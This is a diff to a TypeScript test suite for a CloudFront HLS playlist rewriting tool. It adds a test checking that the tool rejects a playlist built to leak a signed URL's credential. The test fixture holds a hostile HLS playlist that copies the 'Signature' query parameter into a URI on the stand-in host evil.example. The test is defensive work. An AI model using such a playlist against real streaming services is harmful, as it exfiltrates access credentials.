@@ -39,6 +39,13 @@ describe('cloudfront-hls rewrite', () => {
     });
   }
 
+  it('exits 1 and writes nothing for a playlist that copies a credential param into a foreign URI (QUERYPARAM)', async () => {
+    const io = memoryIo('#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\nseg.ts\n');
+    expect(await main(['rewrite', '--url', URL_SIGNED], io)).toBe(1);
+    expect(io.out()).toBe('');
+    expect(io.err()).toMatch(/QUERYPARAM/);
+  });
+
   it('exits 1 for a canned-policy URL and says why', async () => {
     const io = memoryIo('#EXTM3U\nseg.ts\n');
     expect(await main(['rewrite', '--url', 'https://d/a.m3u8?Expires=1&Signature=S&Key-Pair-Id=K'], io)).toBe(1);
